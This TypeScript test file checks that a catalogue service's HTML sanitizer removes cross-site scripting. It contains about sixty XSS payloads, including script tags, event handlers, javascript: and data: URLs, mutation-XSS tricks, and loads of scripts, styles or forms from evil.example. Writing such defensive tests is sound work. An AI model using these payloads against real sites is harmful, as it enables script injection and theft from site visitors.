/** Protects visitors from XSS in HTML of the API. */
import { DomUtils, parseDocument } from 'htmlparser2';
import { expect, test } from 'vitest';
import { sanitizeHtml } from '#app/services/catalogue/html.server.ts';

const words = (text: string) => new Set(text.split(/\s+/));
const TAGS =
  words(`p br hr h2 h3 h4 ul ol li dl dt dd blockquote pre code strong b em i u s small sub sup mark span div
  a abbr time table caption thead tbody tfoot tr th td figure figcaption img`);
const ATTRIBUTES =
  words(`href title rel target src alt width height loading decoding scope colspan rowspan datetime
  start tabindex data-label`);
const URL_PATTERN = /^(?:\/(?![/\\])|https?:\/\/[^/@\\]+(?:\/|$)|mailto:|tel:|#)/;

/** HTML that all parsers read alike: text, and tags with attributes in double quotes. */
const PLAIN = /^(?:[^<>]|<[a-z][a-z\d]*(?: [a-z-]+="[^"<>\0]*")*(?: \/)?>|<\/[a-z][a-z\d]*>)*$/;

function dangersOf(html: string): string[] {
  const dangers = PLAIN.test(html) ? [] : [`not plain: ${html}`];
  const nodes = DomUtils.filter(() => true, parseDocument(html).children, true);
  for (const node of nodes.filter(({ type }) => type !== 'text')) {
    if (!('attribs' in node) || !TAGS.has(node.name)) dangers.push(`a ${node.type}`);
    if (!('attribs' in node)) continue;
    for (const [name, value] of Object.entries(node.attribs)) {
      // Added by the typographer.
      if (`${node.name} ${name}=${value}` === 'span class=nowrap') continue;
      if (!ATTRIBUTES.has(name)) dangers.push(`${node.name} ${name}`);
      if (['href', 'src'].includes(name) && !URL_PATTERN.test(value)) dangers.push(`${name}=${value}`);
    }
  }
  return dangers;
}

/** One per technique of the OWASP list and of later parser differentials. */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<sCrIpT>alert(1)</ScRiPt>',
  '<script/src="https://evil.example/xss.js"></script>',
  '<<script>alert(1);//\\<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<\x00script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script a=">" src="https://evil.example/xss.js"></script>',
  '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
  '<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>"\\>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=/ onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099:alert(1)">',
  '<img src=x onerror\x0b=alert(1)>',
  '<img src="a" style="x" title="--><img src=x onerror=alert(1)>">',
  '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<svg/onload=alert(1)//',
  '<video><source onerror="alert(1)"></video>',
  '<p onclick="alert(1)" onpointerenter=alert(1)>слово</p>',
  '<a href="javascript:alert(1)">слово</a>',
  '<a href="jav\tascript:alert(1)">слово</a>',
  '<a href="jav&#x09;ascript:alert(1)">слово</a>',
  '<a href="java\x00script:alert(1)">слово</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">слово</a>',
  '<a href="javascript&colon;alert(1)">слово</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">слово</a>',
  '<a href="//evil.example/">слово</a>',
  '<a href="https://user:alert(1)@evil.example/">слово</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 2x" src="/media/a.webp">',
  '<style>@import "https://evil.example/xss.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/xss.css">',
  '<div style="-moz-binding:url(https://evil.example/xss.xml#xss)">слово</div>',
  '<style></style\x20><img src=x onerror=alert(1)>',
  '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="phone"><button>слово</button></form>',
  '<form><button formaction="javascript:alert(1)">слово</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<a id="getElementById" name="cookie">слово</a><img name="currentScript" src="/media/a.webp">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>слово</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p title="&lt;img src=x onerror=alert(1)&gt;">слово</p>',
  '<img alt="`onerror=alert(1) `" src="/media/a.webp">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p><a href="/"><b><p onclick=alert(1)></a></b>',
];

test.each(XSS_VECTORS)('%j does not run', (vector) => {
  for (const html of [vector, `<p>до</p>${vector}<p>после</p>`, `<div title="${vector}">слово</div>`]) {
    const safe = sanitizeHtml(html);
    expect(dangersOf(safe)).toEqual([]);
    expect(dangersOf(sanitizeHtml(safe))).toEqual([]);
    expect(parseDocument(sanitizeHtml(safe)).children.length).toBe(parseDocument(safe).children.length);
  }
});
